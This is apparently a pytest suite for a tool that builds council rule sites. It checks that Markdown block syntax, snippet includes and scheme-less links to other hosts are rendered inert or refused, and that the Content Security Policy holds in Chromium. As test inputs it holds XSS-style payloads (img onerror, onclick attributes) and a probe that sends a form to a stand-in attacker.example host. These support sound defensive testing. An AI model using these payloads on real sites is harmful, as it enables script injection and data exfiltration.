"""No markup from any source: every block syntax a site may enable, fed through every format.

Each line below opens something in Python-Markdown or an extension a council's site may
enable (abbreviations, reference and footnote definitions, [TOC], admonitions, details,
tabbed sets, fences, maths, pymdownx blocks, definition lists, task lists, snippets).
Written as a source line (.txt, .md, a web page's paragraph, a Word paragraph) it must
reach the page as the characters written: no element made from it, no file included,
no word lost (the build runs --strict, so the nothing-lost proof would fail it). Links
to another host without a scheme ('//host', '\\\\host', '/\\host') are refused with the
one-line warning naming the file and the place. The same site is opened in Chromium
(with its CSP and without it) and from the offline bundle in test_hostile_corpus.py.
"""

from __future__ import annotations

import html
import re
import zipfile
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import markdown
import pytest
import yaml
from browser_support import WAIT_MS, serve_directory
from clausemark.convert import convert_file
from clausemark.parse.inline import convert_inline
from clausemark.render.markdown_writer import escape_block
from clausemark.support.escaping import link_scheme, markdown_text, safe_link
from format_fixtures import WordParts, build_docx, hyperlink, para, run, text_pdf
from playwright.sync_api import expect
from pypdf import PdfWriter
from site_builds import clausemark_here, make_project, run_clausemark

# Every block extension shipped with Python-Markdown and pymdown-extensions that reads
# the start of a line, beside the example site's own.
EXTENSIONS = [
    "attr_list",
    "md_in_html",
    "footnotes",
    "tables",
    "abbr",
    "toc",
    "def_list",
    "admonition",
    "pymdownx.details",
    "pymdownx.tabbed",
    "pymdownx.superfences",
    "pymdownx.snippets",
    "pymdownx.blocks.admonition",
    "pymdownx.blocks.details",
    "pymdownx.blocks.tab",
    "pymdownx.tasklist",
]
# block maths only: arithmatex's inline '$x$' is inline syntax of its own (see README)
ARITHMATEX = {"pymdownx.arithmatex": {"inline_syntax": []}}

SECRET = "SNIPPET-SECRET-NEVER-ON-A-PAGE"
TRACKER = "https://attacker.example/t.png"
# (source line, what must not be on the page: a CSS selector Chromium checks too)
BLOCK_LINES = [
    (f"*[Zanzibar]: <img src={TRACKER} onerror=alert(1)>", "abbr, img"),
    ('[r]: https://attacker.example/ref "Ref title"', 'a[href*="attacker"]'),
    ("[TOC]", ".toc"),
    ('!!! danger "Injected admonition"', ".admonition"),
    ('??? note "Injected details"', "details:not(.cm-related)"),
    ('???+ note "Open details"', "details:not(.cm-related)"),
    ('=== "Injected tab"', ".tabbed-set"),
    ('--8<-- "secret.txt"', "pre, code"),
    ("$$x^2$$", ".arithmatex, script[type^='math']"),
    ("/// details | Injected block", "details:not(.cm-related)"),
    ("/// tab | Injected tab block", ".tabbed-set"),
    (": an injected definition", "dl:not(.cm-facts)"),
    ("> an injected quote", "blockquote"),
    ("~~~", "pre"),
    ("```", "pre"),
    ("___", "hr"),
    ("- [ ] an injected task box", "input"),
    ("[x] another injected task box", "input"),
    ("{: #evil onclick=alert(2) }", "#evil, [onclick]"),
]
# What the parser writes on the page for a line it reads as structure (a bullet, a rule
# line it drops as a page-break mark): the words that must still be shown.
SHOWN_AS = {"- [ ] an injected task box": "[ ] an injected task box", "___": None}
INJECTED = ", ".join(dict.fromkeys(selector for _line, selector in BLOCK_LINES))

# Targets on another host with no scheme: refused like javascript:, with their place.
OTHER_HOSTS = ["//evil.example/share/doc", "\\\\evil.example\\share", "/\\evil.example/x"]
# Targets urllib.parse.urlsplit rejects (an IPv6 host left open; a host that Unicode
# normalisation gives a '#'): MkDocs and the site's own link checks split every href with
# it, so each ended the build in a traceback (attack14 A5). A web page's and a Word file's
# '[' reaches the page percent-encoded ('http://%5B::1'), an address that splits.
UNSPLITTABLE = ["http://[::1", "http://a\uff03b/"]


# --- the escaping boundary, as a unit ----------------------------------------------------------


def _render(text: str, snippets: Path | None = None) -> str:
    """`text` through every extension; a snippet line would include files from `snippets`."""
    configs = {**ARITHMATEX, "pymdownx.snippets": {"base_path": [str(snippets or Path.cwd())]}}
    return markdown.markdown(text, extensions=[*EXTENSIONS, *ARITHMATEX], extension_configs=configs)


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


def _read(fragment: str) -> _Page:
    page = _Page()
    page.feed(fragment)
    page.close()
    return page


@pytest.mark.parametrize("line", [line for line, _ in BLOCK_LINES])
def test_no_source_line_opens_a_block_in_any_extension(line, tmp_path):
    (tmp_path / "secret.txt").write_text(SECRET, encoding="utf-8")
    for text in (line, f"First words.\n{line}", f"{line}\nlast words"):
        converted = "\n".join(convert_inline(part)[0] for part in text.split("\n"))
        rendered = _render(escape_block(converted), tmp_path)
        page = _read(rendered)
        assert page.tags == ["p"], (text, rendered)
        assert " ".join("".join(page.text).split()) == " ".join(text.split())


@pytest.mark.parametrize("line", [line for line, _ in BLOCK_LINES])
def test_site_words_open_no_block_either(line):
    page = _read(_render(markdown_text(line)))
    assert page.tags == ["p"] and "".join(page.text) == line


@pytest.mark.parametrize("url", [*OTHER_HOSTS, "\\/evil.example", " //x", "&#47;&#47;x"])
def test_a_target_on_another_host_without_a_scheme_is_refused(url):
    assert not safe_link(url) and link_scheme(url) == "//"


@pytest.mark.parametrize("url", ["/rules/", "rules/#para_1", "./a//b", "\\rules", "#a//b"])
def test_a_path_on_this_site_is_kept(url):
    assert safe_link(url)


def test_digits_other_than_0_9_make_the_same_ids_as_0_9_and_are_warned(tmp_path):
    source = tmp_path / "digits.txt"
    source.write_text(
        "Digit Rules\n\n１. Scope\n\n１.１ Fullwidth.\n\n١.٢ Arabic-Indic.\n\n𝟏.𝟑 Mathematical.\n\n"
        "1.4 Plain.\n",
        encoding="utf-8",
    )
    document = convert_file(source, "digits")
    (section,) = document.blocks
    assert section.heading.anchor == "sec_1"
    anchors = [(c.number, c.anchor) for c in section.blocks]
    assert anchors == [
        ("１.１", "sec_1__para_1-1"),
        ("١.٢", "sec_1__para_1-2"),
        ("𝟏.𝟑", "sec_1__para_1-3"),
        ("1.4", "sec_1__para_1-4"),
    ]
    warned = [(w.line, w.message) for w in document.warnings if w.code == "other-digits"]
    assert warned[1] == (
        5,
        "number '１.１' is printed with digits other than 0-9; it is kept as printed, "
        "and its id uses '1.1'",
    )
    assert len(warned) == 4


def test_a_pdf_with_bytes_after_its_end_mark_is_read(tmp_path):
    path = tmp_path / "trailing.pdf"
    path.write_bytes(text_pdf("1.1 Every trailing word is read.", trailing=b"\n%" + b"x" * 5000))
    document = convert_file(path, "trailing")
    assert "Every trailing word is read." in document.blocks[0].text


def test_a_pdf_of_no_pages_says_so_in_one_line(tmp_path):
    path = tmp_path / "empty.pdf"
    with path.open("wb") as written:
        PdfWriter().write(written)  # a valid PDF whose page tree is empty
    result = clausemark_here("convert", str(path), "--out", str(tmp_path / "out"), cwd=tmp_path)
    assert result.returncode == 1
    assert result.stderr.strip().splitlines() == [
        f"clausemark: error: {path}: the PDF has no pages; there is nothing to read"
    ]


# --- one site, every format -----------------------------------------------------------------

TITLE = "Markup Rules"
OPENING = ["1. Scope", "1.1 Zanzibar members meet in public."]
LINKS_LINE = (
    "1.2 Read [the share](//evil.example/share/doc) and the "
    '<a href="\\\\evil.example\\share">backslash share</a> and '
    "[the slashes](/\\evil.example/x) and [the rules](/rules/), [the loopback](http://[::1) "
    "and [the wide host](http://a\uff03b/)."
)
CLOSING = "1.3 Zanzibar members keep every word."


def _txt() -> str:
    lines = [TITLE, *OPENING, *(line for line, _ in BLOCK_LINES), LINKS_LINE, CLOSING]
    return "\n\n".join(lines) + "\n"


def _html() -> str:
    paragraphs = [f"<h1>{TITLE}</h1>"]
    paragraphs += [f"<p>{html.escape(text)}</p>" for text in OPENING]
    paragraphs += [f"<p>{html.escape(line)}</p>" for line, _ in BLOCK_LINES]
    paragraphs.append(
        '<p>1.2 Read <a href="//evil.example/share/doc">the share</a> and the '
        '<a href="\\\\evil.example\\share">backslash share</a> and '
        '<a href="/\\evil.example/x">the slashes</a> and <a href="/rules/">the rules</a>, '
        '<a href="http://[::1">the loopback</a> and <a href="http://a\uff03b/">the wide host</a>.'
        "</p>"
    )
    paragraphs.append(f"<p>{html.escape(CLOSING)}</p>")
    return f"<html><body><main>{''.join(paragraphs)}</main></body></html>"


def _docx() -> bytes:
    body = [para(TITLE), *(para(text) for text in OPENING)]
    body += [para(line) for line, _ in BLOCK_LINES]
    body.append(
        para(
            run("1.2 Read ")
            + hyperlink("the share", "rIdA")
            + run(" and the ")
            + hyperlink("backslash share", "rIdB")
            + run(" and ")
            + hyperlink("the slashes", "rIdC")
            + run(" and ")
            + hyperlink("the rules", "rIdD")
            + run(", ")
            + hyperlink("the loopback", "rIdE")
            + run(" and ")
            + hyperlink("the wide host", "rIdF")
            + run(".")
        )
    )
    body.append(para(CLOSING))
    links = {
        "rIdA": "//evil.example/share/doc",
        "rIdB": "\\\\evil.example\\share",
        "rIdC": "/\\evil.example/x",
        "rIdD": "/rules/",
        "rIdE": UNSPLITTABLE[0],
        "rIdF": UNSPLITTABLE[1],
    }
    return build_docx(WordParts(body=body, links=links))


SOURCES = {"markup-txt.txt": _txt(), "markup-md.md": _txt(), "markup-html.html": _html()}
FORMATS = ("markup-txt", "markup-md", "markup-html", "markup-docx")
REFUSED = "is not an http, https, mailto or relative address"
NOT_AN_ADDRESS = "is not a valid address"


# A document of the constitution that is elsewhere, at an address on another host.
DOCUMENTS_YML = """\
- id: shared-rules
  title: Shared Rules
  url: "//evil.example/shared-rules"
"""


def markup_project(root: Path, overrides: Path) -> Path:
    """The site: every format of the markup source, under every block extension."""
    config = {
        "site_name": "Markup Council",
        "site_url": "",
        "theme": {
            "name": "material",
            "custom_dir": str(overrides),
            "font": False,
            "features": ["content.tooltips", "search.highlight"],
        },
        "plugins": [
            "search",
            {
                "clausemark": {
                    "cache_dir": "",
                    "allow_warnings": [REFUSED, NOT_AN_ADDRESS, "/rules/"],
                }
            },
        ],
        "extra": {"generator": False},
        "markdown_extensions": [*EXTENSIONS, ARITHMATEX, "clausemark"],
    }
    sources = {**SOURCES, "markup-docx.docx": _docx()}
    project = make_project(root, sources, mkdocs_yml=yaml.safe_dump(config, sort_keys=False))
    (project / "sources" / "documents.yml").write_text(DOCUMENTS_YML, encoding="utf-8")
    (project / "secret.txt").write_text(SECRET, encoding="utf-8")  # a snippet would take it
    (project / "docs" / "secret.txt").write_text(SECRET, encoding="utf-8")
    return project


@dataclass(frozen=True)
class MarkupSite:
    project: Path
    site: Path
    bundle: Path
    output: str

    def page(self, path: str) -> str:
        return (self.site / path).read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def markup_site(tmp_path_factory) -> MarkupSite:
    from site_builds import REPO_ROOT, build_site

    root = tmp_path_factory.mktemp("markup")
    project = markup_project(root / "project", REPO_ROOT / "overrides")
    built = build_site(project)  # --strict: a lost word or an unexpected warning fails it
    bundled = run_clausemark("bundle", "--out", str(root / "dist"), cwd=project)
    assert bundled.returncode == 0, bundled.stderr
    (archive,) = sorted((root / "dist").glob("*.zip"))
    with zipfile.ZipFile(archive) as opened:
        opened.extractall(root / "unzipped")
    return MarkupSite(
        project, built.site_dir or project / "site", root / "unzipped" / archive.stem, built.output
    )


# The site's own "Related clauses" lists are the one <details> a page has.
_RELATED = re.compile(r'<details class="cm-related">.*?</details>', re.S)


def _article(page: str) -> str:
    """The page's text, without the site's own related-clause lists."""
    return _RELATED.sub("", page.split("<article", 1)[1].split("</article>", 1)[0])


def _shown(fragment: str) -> str:
    return " ".join("".join(_read(fragment).text).split())


BANNED_TAGS = re.compile(
    r"<(abbr|img|details|summary|blockquote|pre|hr|input|script|iframe)\b|"
    r'class="(?:admonition|tabbed-set|arithmatex|toc|task-list)'
)


@pytest.mark.smoke
@pytest.mark.build
@pytest.mark.parametrize("doc_id", FORMATS)
def test_every_format_shows_the_block_syntax_as_written(markup_site, doc_id):
    page = (markup_site.site / doc_id / "index.html").read_text(encoding="utf-8")
    article = _article(page)
    assert not BANNED_TAGS.search(article), BANNED_TAGS.search(article)
    assert SECRET not in page
    assert "<dl" not in article.replace('<dl class="cm-facts">', "")
    assert 'id="evil"' not in page and "onclick" not in article.replace("onclick=alert(2)", "")
    shown = _shown(article)
    for line, _ in BLOCK_LINES:
        expected = SHOWN_AS.get(line, line)
        if expected is not None:
            assert expected in shown, (doc_id, expected)
    assert "Zanzibar members meet in public." in shown and "keep every word." in shown
    assert (
        "Read the share and the backslash share and the slashes and the rules, the loopback "
        "and the wide host."
    ) in shown
    # '/rules/' names no page of this site: since dba319f it is shown as plain text, with one
    # warning naming the source line (allowed above), never left for the built-site check
    assert 'href="/rules/"' not in article and "the rules" in shown
    assert "evil.example" not in re.sub(r"<[^>]+>", "", article.replace("evil.example/x", ""))


PLACES = {
    "markup-txt": "sources/markup-txt.txt:{line}",
    "markup-md": "sources/markup-md.md:{line}",
    "markup-html": "sources/markup-html.html (line 1)",
    "markup-docx": "sources/markup-docx.docx (paragraph {paragraph})",
}


@pytest.mark.smoke
@pytest.mark.build
@pytest.mark.parametrize("doc_id", FORMATS)
def test_links_to_another_host_are_refused_with_their_place(markup_site, doc_id):
    line = _txt().split("\n").index(LINKS_LINE) + 1
    paragraph = 1 + len(OPENING) + len(BLOCK_LINES) + 1
    place = PLACES[doc_id].format(line=line, paragraph=paragraph)
    # allowed in this site's settings, so listed on the build report page, not in the log
    report = _shown(_article(markup_site.page("build-report/index.html")))
    for target in ("//evil.example/share/doc", "\\\\evil.example\\share", "/\\evil.example/x"):
        warning = f"{place}: link '{target}' {REFUSED}; shown as plain text (allowed)"
        assert warning in report, (warning, report[:3000])


@pytest.mark.smoke
@pytest.mark.build
@pytest.mark.parametrize("doc_id", FORMATS)
def test_a_target_no_url_parser_reads_is_refused_with_its_place(markup_site, doc_id):
    """Once a traceback that ended the build and the bundle (attack14 A5): now plain text,
    one warning at its place, the site and the bundle written."""
    line = _txt().split("\n").index(LINKS_LINE) + 1
    paragraph = 1 + len(OPENING) + len(BLOCK_LINES) + 1
    place = PLACES[doc_id].format(line=line, paragraph=paragraph)
    report = _shown(_article(markup_site.page("build-report/index.html")))
    # a web page and a Word file write '[' percent-encoded: that address splits, and stays
    refused = UNSPLITTABLE if doc_id in {"markup-txt", "markup-md"} else UNSPLITTABLE[1:]
    for target in refused:
        warning = f"{place}: link '{target}' {NOT_AN_ADDRESS}; shown as plain text (allowed)"
        assert report.count(warning) == 1, (warning, report[:3000])
    for folder, name in (
        (markup_site.site, f"{doc_id}/index.html"),
        (markup_site.bundle, f"{doc_id}.html"),
    ):
        article = _article((folder / name).read_text(encoding="utf-8"))
        assert "the wide host" in _shown(article) and "a\uff03b" not in article
        assert 'href="http://[' not in article


@pytest.mark.build
def test_a_documents_yml_address_on_another_host_is_refused(markup_site):
    report = _shown(_article(markup_site.page("build-report/index.html")))
    log = markup_site.output + report
    # the refusal names the line of documents.yml the address is on (456fcf6)
    assert re.search(
        r"documents\.yml:\d+: document 'shared-rules': url '//evil\.example/shared-rules' "
        + re.escape(REFUSED),
        log,
    ), log[-3000:]
    for doc in FORMATS:
        assert 'href="//evil' not in markup_site.page(f"{doc}/index.html")


@pytest.mark.build
def test_convert_writes_the_same_inert_markdown(markup_site, tmp_path):
    out = tmp_path / "out"
    result = run_clausemark(
        "convert", str(markup_site.project / "sources"), "--out", str(out), cwd=tmp_path
    )
    assert result.returncode == 0, result.stderr
    for doc_id in FORMATS:
        written = (out / f"{doc_id}.md").read_text(encoding="utf-8")
        rendered = _render(written.split("\n---\n", 1)[1], markup_site.project)
        assert not BANNED_TAGS.search(rendered), (doc_id, BANNED_TAGS.search(rendered))
        assert SECRET not in rendered
    assert result.stderr.count(REFUSED) == 3 * len(FORMATS)
    assert result.stderr.count(NOT_AN_ADDRESS) == 2 + 2 + 1 + 1  # txt, md, html, docx


# --- in Chromium: with the CSP, without it, and from the bundle --------------------------------

CSP_META = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
# Anything a line would have made, had it got through (the site's own related-clause
# lists are <details class="cm-related">; its page header is <dl class="cm-facts">).
INJECTED_ELEMENTS = ", ".join(
    [
        *(f"article {selector.strip()}" for selector in INJECTED.split(",")),
        "article [title*='<']",
        "a[href^='//']",
        "a[href*='evil.example']",
        "a[href*='attacker.example']",
        "abbr",
        "iframe:not(body > iframe[hidden]:not([src]))",
    ]
)
WATCH = """window.cmViolations = [];
document.addEventListener('securitypolicyviolation',
    (e) => window.cmViolations.push(e.violatedDirective + ' ' + e.blockedURI));"""


def _strip_csp(route) -> None:
    response = route.fetch()
    route.fulfill(response=response, body=CSP_META.sub("", response.text()))


def _off_machine(url: str) -> bool:
    parts = urlsplit(url)
    return parts.scheme in {"http", "https", "ws", "wss", "ftp"} and parts.hostname not in {
        "127.0.0.1",
        "localhost",
    }


@pytest.mark.build
@pytest.mark.parametrize("where", ["http", "http-without-csp", "file"])
def test_no_line_injects_anything_in_chromium(page, markup_site, where):
    dialogs: list[str] = []
    requests: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda r: requests.append(r.url) if _off_machine(r.url) else None)
    page.add_init_script(WATCH)
    if where == "http-without-csp":
        page.route(re.compile(r".*(/|\.html)$"), _strip_csp)
    if where == "file":
        _visit_every_format(page, lambda doc: (markup_site.bundle / f"{doc}.html").as_uri(), where)
    else:
        with serve_directory(markup_site.site) as base:
            _visit_every_format(page, lambda doc: f"{base}{doc}/", where)
            page.goto(f"{base}build-report/")  # the refused links' targets, as text
            expect(page.locator("article")).to_contain_text("evil.example")
            assert page.locator(INJECTED_ELEMENTS).count() == 0
    assert dialogs == [] and requests == [], (dialogs, requests)
    if where != "http-without-csp":
        _the_policy_refuses_what_another_route_would_add(page)


def _the_policy_refuses_what_another_route_would_add(page) -> None:
    """The CSP itself: a remote image or a form sending data away is refused (on the
    last page visited, still open)."""
    page.evaluate(PROBE)
    page.wait_for_function("() => window.cmViolations.length >= 2")  # no eval: the CSP
    refused = sorted(v.split(" ")[0] for v in page.evaluate("window.cmViolations"))
    assert refused == ["form-action", "img-src"], refused


def _visit_every_format(page, address, where: str) -> None:
    for doc_id in FORMATS:
        page.goto(address(doc_id))
        expect(page.locator("h1")).to_contain_text(TITLE)
        csp = page.locator('meta[http-equiv="Content-Security-Policy"]').count()
        assert csp == (0 if where == "http-without-csp" else 1)
        assert page.locator(INJECTED_ELEMENTS).count() == 0, page.eval_on_selector_all(
            INJECTED_ELEMENTS, "els => els.map(el => el.outerHTML.slice(0, 200))"
        )
        article = page.locator("article")
        for line, _ in BLOCK_LINES:
            expected = SHOWN_AS.get(line, line)
            if expected is not None:
                expect(article).to_contain_text(expected)
        zanzibar = page.get_by_text("Zanzibar members meet in public.")
        zanzibar.hover()  # an abbreviation's tooltip would show here
        for titled in page.query_selector_all("article [title]")[:20]:
            if titled.is_visible():
                titled.hover(timeout=WAIT_MS)  # waits until it can be hovered
        assert page.locator(INJECTED_ELEMENTS).count() == 0
        if where != "http-without-csp":
            assert page.evaluate("window.cmViolations") == []
    page.keyboard.press("/")
    page.keyboard.type("Zanzibar")
    page.wait_for_selector(".md-search-result__item", timeout=WAIT_MS)
    assert page.locator(INJECTED_ELEMENTS).count() == 0
    if where != "http-without-csp":
        assert page.evaluate("window.cmViolations") == []


PROBE = f"""() => {{
    const image = document.createElement('img');
    image.src = '{TRACKER}';
    document.body.appendChild(image);
    const form = document.createElement('form');
    form.id = 'cm-probe-form';
    form.action = 'https://attacker.example/collect';
    document.body.appendChild(form);
    form.submit();
}}"""


@pytest.mark.parametrize("line", ["*[Not used]*", "*[Revoked 2024]* see rule 9", "*[a]*b"])
def test_a_paragraph_opening_with_italic_brackets_keeps_its_italics(line):
    """'*[Not used]*' (a Word paragraph in italics, read apart) is no abbreviation: it
    was written '&#42;[Not used]*', and the page showed both asterisks, its italics lost."""
    rendered = _render(escape_block(line))
    assert "<em>[" in rendered and "*" not in html.unescape(rendered), rendered
    # one line of several may be the start of an abbreviation ended below: escaped still
    assert "&#42;[" in escape_block(f"{line}\nx]: y")


def test_an_abbreviation_on_one_line_is_still_escaped():
    for line in ("*[FOI]: Freedom of Information", "*[FOI] : x", "*[a]b]: c"):
        page = _read(_render(escape_block(line)))
        assert page.tags == ["p"] and "".join(page.text) == line
